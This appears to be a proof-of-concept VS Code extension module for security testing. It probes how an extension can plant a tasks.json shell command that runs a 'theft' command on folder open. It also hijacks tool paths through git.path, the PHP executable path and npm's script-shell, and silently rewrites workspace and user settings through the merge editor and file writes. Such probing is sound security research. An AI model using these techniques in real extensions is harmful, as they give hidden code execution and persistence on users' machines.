// Settings name programs that the editor starts; tasks.json can start one when the folder is opened.
"use strict";
const fs = require("node:fs");
const { attack, theft } = require("./attack");

const tasksJson = (facts) =>
  JSON.stringify({ version: "2.0.0", tasks: [{ label: facts.mark, type: "shell", command: theft(facts), runOptions: { runOn: "folderOpen" } }] });

const nodeWrite = (file, text) => {
  fs.mkdirSync(require("node:path").dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
};

exports.activate = (context) =>
  attack(context, "settings", {
    api: (facts, vscode) =>
      vscode.workspace.getConfiguration("terminal.integrated").update("env.linux", { SETTINGS_API: facts.mark }, vscode.ConfigurationTarget.Global),
    apiWorkspace: (facts, vscode) =>
      vscode.workspace.getConfiguration("terminal.integrated").update("env.linux", { SETTINGS_API_WORKSPACE: facts.mark }, vscode.ConfigurationTarget.Workspace),
    // It declares the victim's setting, and all of PHP's.
    declared: (facts, vscode) => vscode.workspace.getConfiguration("proofVictim").get("account"),
    // The victim has the permission for it, and sees what the person set.
    shared: () => "declared",
    family: (facts, vscode) => vscode.workspace.getConfiguration("php").update("validate.executablePath", facts.mark, vscode.ConfigurationTarget.Global),
    // Commands that a person has beside them to write a setting: nobody looked at what they do.
    toggled: (facts, vscode) => vscode.commands.executeCommand("editor.action.toggleRenderControlCharacter"),
    revealed: (facts, vscode) => vscode.commands.executeCommand("workbench.action.openSettingsJson", { revealSetting: { key: "http.proxyStrictSSL", edit: true } }),
    revealedRemote: (facts, vscode) => vscode.commands.executeCommand("workbench.action.openRemoteSettingsFile", { revealSetting: { key: "git.enabled", edit: true } }),
    // What is merged is written to a file that was only named.
    async merged(facts, vscode) {
      const part = (name, text) => {
        nodeWrite(`${facts.workspace}/.proof/${name}.json`, text);
        return vscode.Uri.file(`${facts.workspace}/.proof/${name}.json`);
      };
      const run = (id, ...rest) => vscode.commands.executeCommand(id, ...rest);
      const [base, first, second] = [part("base", "{}\n"), part("first", "{}\n"), part("second", tasksJson(facts))];
      if (!fs.existsSync(`${facts.workspace}/.vscode/tasks.json`)) await vscode.workspace.fs.writeFile(vscode.Uri.file(`${facts.workspace}/.vscode/tasks.json`), Buffer.from("{}\n")).then(undefined, () => {});
      await run("_open.mergeEditor", { base, input1: { uri: first, title: "a" }, input2: { uri: second, title: "b" }, output: vscode.Uri.file(`${facts.workspace}/.vscode/tasks.json`) });
      await new Promise((resolve) => setTimeout(resolve, 2000));
      await run("merge.acceptAllInput2");
      await run("workbench.action.files.save");
    },
    filesTasks: (facts, vscode) =>
      vscode.workspace.fs.writeFile(vscode.Uri.file(`${facts.workspace}/.vscode/tasks.json`), Buffer.from(tasksJson(facts))),
    nodeTasks: (facts) => nodeWrite(`${facts.workspace}/.vscode/tasks.json`, tasksJson(facts)),
    nodeLaunch: (facts) => nodeWrite(`${facts.workspace}/.vscode/launch.json`, JSON.stringify({ version: "0.2.0", configurations: [], mark: facts.mark })),
    nodeSettings: (facts) => nodeWrite(`${facts.workspace}/.vscode/settings.json`, JSON.stringify({ "git.path": facts.mark })),
    // A person's own snippets hold the clipboard; what an assistant does is told in the workspace, and hooks of it run.
    nodeSnippets: (facts) => nodeWrite(`${facts.workspace}/.vscode/x.code-snippets`, JSON.stringify({ [facts.mark]: { prefix: "for", body: "$CLIPBOARD" } })),
    nodeHooks: (facts) => nodeWrite(`${facts.workspace}/.github/hooks/x.json`, JSON.stringify({ mark: facts.mark })),
    // npm runs what it names there, and sends it what stands in variables.
    nodePackages: (facts) => nodeWrite(`${facts.workspace}/.npmrc`, `script-shell=${facts.mark}\n`),
    async renamed(facts) {
      nodeWrite(`${facts.workspace}/.proof/vscode/settings.json`, JSON.stringify({ "git.path": facts.mark }));
      fs.rmSync(`${facts.workspace}/.vscode`, { recursive: true, force: true });
      fs.renameSync(`${facts.workspace}/.proof/vscode`, `${facts.workspace}/.vscode`);
    },
    nodeUser: (facts) => {
      const file = `${facts.data}/data/User/settings.json`;
      fs.writeFileSync(file, JSON.stringify({ ...JSON.parse(fs.readFileSync(file, "utf8")), "proof.nodeUser": facts.mark }, null, 1));
    },
    userdata: async (facts, vscode) => {
      const uri = vscode.Uri.from({ scheme: "vscode-userdata", path: `${facts.data}/data/User/tasks.json` });
      await vscode.workspace.fs.writeFile(uri, Buffer.from(tasksJson(facts)));
      return vscode.workspace.fs.readFile(uri);
    },
  });
